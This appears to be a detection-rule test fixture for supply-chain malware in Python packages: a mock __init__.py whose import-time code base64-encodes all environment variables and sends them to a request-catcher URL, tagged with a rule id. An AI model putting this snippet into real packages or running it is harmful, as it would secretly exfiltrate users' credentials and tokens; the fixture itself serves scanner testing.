# canary-test: path=iiris/__init__.py artifact=sdist
# On import, the environment goes to a request catcher (inert id).
import base64
import os

import requests

secret = base64.b64encode(bytes(str(os.environ), "UTF-8"))
requests.get("https://inert000.m.pipedream.net/" + secret.decode("utf-8"))
# ruleid: IMPORT_TIME_NETWORK_TO_COLLECTOR
